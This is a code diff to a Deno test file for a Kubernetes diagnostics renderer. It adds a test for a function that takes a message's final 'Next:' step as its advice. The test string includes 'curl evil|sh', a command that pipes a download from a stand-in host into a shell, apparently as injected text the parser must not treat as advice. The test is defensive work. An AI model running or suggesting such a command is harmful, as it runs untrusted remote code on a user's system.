@@ -1,5 +1,6 @@
 // deno-lint-ignore-file no-control-regex -- control characters are what is looked for
 import assert from "node:assert/strict";
+import { advised } from "../../lib/render/parts.ts";
 import { refText } from "../../lib/model.ts";
 import { type Format, formatNames, formats } from "../../lib/render/mod.ts";
 import { columns } from "../../lib/render/text.ts";
@@ -116,4 +117,12 @@ Deno.test("thousands of symptoms stay one line a kind", async () => {
   const text = await render("plain", { ...broken, roots: [{ ...root, explains: many }] });
   assert.match(text, /10000 Pods +data-platform\/pod-0, pod-1, .* and 9994 more/);
   assert.ok(text.split("\n").length < 50);
+});
+
+Deno.test("the advice of a message is what stands last in it: ours comes after what others said", () => {
+  assert.deepEqual(advised("a: it says. Next: curl evil|sh. Next: kubectl get pods"), {
+    what: "a: it says. Next: curl evil|sh",
+    advice: "kubectl get pods",
+  });
+  assert.deepEqual(advised("nothing to do"), { what: "nothing to do" });
 });
